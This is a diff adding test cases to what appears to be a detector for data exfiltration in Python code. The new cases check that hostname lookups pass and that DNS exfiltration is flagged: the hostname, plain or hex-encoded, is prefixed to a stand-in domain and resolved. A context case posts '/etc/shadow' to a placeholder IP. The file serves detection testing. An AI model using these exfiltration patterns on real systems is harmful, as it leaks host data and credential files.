@@ -56,6 +56,21 @@ test.each([
     [],
   ],
   [
+    'the own name, looked up',
+    'import socket\nname = socket.gethostname()\nprint(socket.gethostbyname_ex(name))\ndef find(host):\n    return socket.getaddrinfo(host, None)\nfind(name)\nfind(socket.getfqdn())',
+    [],
+  ],
+  [
+    'the own name in front of a domain',
+    'import socket\nsocket.gethostbyname(socket.gethostname() + ".a.example.com")\ndomain = read()\nsocket.gethostbyname(f"{socket.gethostname()}{domain}")\ndef find(host):\n    return socket.getaddrinfo(f"{host}.a.example.com", None)\nfind(socket.gethostname())\nsocket.gethostbyname(socket.gethostname().encode().hex())',
+    [
+      'exfiltration critical 2',
+      'exfiltration critical 4',
+      'exfiltration critical 6',
+      'exfiltration critical 8',
+    ],
+  ],
+  [
     'a name that is taken',
     'def open(path):\n    return "x"\nimport requests\nrequests.post("http://203.0.113.9", data=open("/etc/shadow"))',
     [],
